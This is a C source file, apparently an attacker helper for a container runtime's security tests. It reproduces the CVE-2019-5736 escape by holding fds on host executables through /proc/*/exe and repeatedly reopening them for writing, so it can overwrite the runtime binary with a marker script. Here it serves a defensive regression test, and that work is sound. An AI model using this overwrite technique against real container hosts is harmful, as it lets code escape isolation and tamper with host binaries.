// exe-attacker: the CVE-2019-5736 attacker, run inside a container by the
// attacks lane (tests/attacks/test_self_exe.cpp). For SECONDS it watches
// every /proc/[0-9]*/exe of its pid namespace, keeps an O_PATH fd on each
// executable that is not a file of the container's own root (the runtime's
// binary, whatever shape it comes in), and keeps trying to reopen each one
// through /proc/self/fd/N with O_WRONLY|O_TRUNC: while a process still runs
// it the kernel says ETXTBSY, after the last one exits the write lands,
// unless something else stops it. It reports what it saw, one line each:
//
//   watching pid P
//   opened pid N exe dev=D ino=I mnt=M PATH   (a target: an fd is held on it)
//   ignored pid N exe dev=D ino=I mnt=M PATH  (the container's own file)
//   denied pid N exe: EACCES                  (could not open it, once per pid)
//   write dev=D ino=I mnt=M: ETXTBSY          (each change of a target's result)
//   write dev=D ino=I mnt=M: ok               (overwritten)
//   final dev=D ino=I mnt=M: EROFS after N tries
//   done
//
// A file is known by device, inode AND mount: the same inode reached through
// a read-only mount and through a writable one are two targets.
//
// Static, no libc needed in the container.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 64
#define MAX_SEEN 512

struct file_id {
    unsigned long dev, ino, mnt;
};

struct target {
    int fd;
    struct file_id id;
    int last_errno; // -1: not tried yet; 0: written
    long tries;
};

static struct target targets[MAX_TARGETS];
static int n_targets;
static struct file_id ignored[MAX_SEEN];
static int n_ignored;
static long denied[MAX_SEEN];
static int n_denied;

static const char* errno_name(int err) {
    switch (err) {
    case 0:
        return "ok";
    case EROFS:
        return "EROFS";
    case ETXTBSY:
        return "ETXTBSY";
    case EACCES:
        return "EACCES";
    case EPERM:
        return "EPERM";
    case ENOENT:
        return "ENOENT";
    case EXDEV:
        return "EXDEV";
    case EBUSY:
        return "EBUSY";
    case EINVAL:
        return "EINVAL";
    case ESRCH:
        return "ESRCH";
    }
    static char buf[32];
    snprintf(buf, sizeof buf, "errno %d", err);
    return buf;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int same(struct file_id a, struct file_id b) {
    return a.dev == b.dev && a.ino == b.ino && a.mnt == b.mnt;
}

static int known(struct file_id id) {
    for (int i = 0; i < n_targets; i++)
        if (same(targets[i].id, id))
            return 1;
    for (int i = 0; i < n_ignored; i++)
        if (same(ignored[i], id))
            return 1;
    return 0;
}

static int identify(int dirfd, const char* path, int flags, struct file_id* id) {
    struct statx sx;
    if (statx(dirfd, path, flags, STATX_INO | STATX_MNT_ID, &sx) < 0)
        return -1;
    id->dev = (unsigned long)makedev(sx.stx_dev_major, sx.stx_dev_minor);
    id->ino = (unsigned long)sx.stx_ino;
    id->mnt = (sx.stx_mask & STATX_MNT_ID) ? (unsigned long)sx.stx_mnt_id : 0;
    return 0;
}

static void note_denied(long pid, int err) {
    for (int i = 0; i < n_denied; i++)
        if (denied[i] == pid)
            return;
    if (n_denied < MAX_SEEN)
        denied[n_denied++] = pid;
    printf("denied pid %ld exe: %s\n", pid, errno_name(err));
}

// One process: open its exe O_PATH; a new file that the container's own
// root does not have under the same name becomes a target.
static void look_at(long pid) {
    char link[64], path[4096];
    snprintf(link, sizeof link, "/proc/%ld/exe", pid);
    int fd = open(link, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        if (errno == EACCES || errno == EPERM)
            note_denied(pid, errno);
        return; // ENOENT: a kernel thread, a zombie, gone
    }
    struct file_id id;
    if (identify(fd, "", AT_EMPTY_PATH, &id) < 0 || known(id)) {
        close(fd);
        return;
    }
    ssize_t n = readlink(link, path, sizeof path - 1);
    path[n > 0 ? n : 0] = '\0';
    struct file_id here;
    if (identify(AT_FDCWD, path, 0, &here) == 0 && same(here, id)) {
        if (n_ignored < MAX_SEEN)
            ignored[n_ignored++] = id;
        printf("ignored pid %ld exe dev=%lu ino=%lu mnt=%lu %s\n", pid, id.dev, id.ino, id.mnt,
               path);
        close(fd);
        return;
    }
    if (n_targets == MAX_TARGETS) {
        close(fd);
        return;
    }
    targets[n_targets++] = (struct target){fd, id, -1, 0};
    printf("opened pid %ld exe dev=%lu ino=%lu mnt=%lu %s\n", pid, id.dev, id.ino, id.mnt, path);
}

static void scan(DIR* proc, long self) {
    rewinddir(proc);
    struct dirent* e;
    while ((e = readdir(proc)) != NULL) {
        char* end;
        long pid = strtol(e->d_name, &end, 10);
        if (*end != '\0' || pid <= 0 || pid == self)
            continue;
        look_at(pid);
    }
}

static void try_writes(void) {
    static const char marker[] = "#!/bin/sh\necho overwritten by exe-attacker\n";
    for (int i = 0; i < n_targets; i++) {
        struct target* t = &targets[i];
        if (t->last_errno == 0)
            continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", t->fd);
        t->tries++;
        int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        int err = 0;
        if (w < 0)
            err = errno;
        else if (write(w, marker, sizeof marker - 1) != (ssize_t)(sizeof marker - 1))
            err = errno ? errno : EIO;
        if (w >= 0)
            close(w);
        if (err != t->last_errno)
            printf("write dev=%lu ino=%lu mnt=%lu: %s\n", t->id.dev, t->id.ino, t->id.mnt,
                   errno_name(err));
        t->last_errno = err;
    }
}

int main(int argc, char** argv) {
    if (argc != 2 || atoi(argv[1]) <= 0) {
        fprintf(stderr, "usage: exe-attacker SECONDS\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    DIR* proc = opendir("/proc");
    if (!proc) {
        printf("cannot open /proc: %s\n", strerror(errno));
        return 1;
    }
    long self = (long)getpid();
    printf("watching pid %ld\n", self);
    double deadline = now() + atoi(argv[1]);
    struct timespec pause = {0, 200 * 1000};
    while (now() < deadline) {
        scan(proc, self);
        try_writes();
        nanosleep(&pause, NULL);
    }
    for (int i = 0; i < n_targets; i++)
        printf("final dev=%lu ino=%lu mnt=%lu: %s after %ld tries\n", targets[i].id.dev,
               targets[i].id.ino, targets[i].id.mnt, errno_name(targets[i].last_errno),
               targets[i].tries);
    printf("done\n");
    return 0;
}
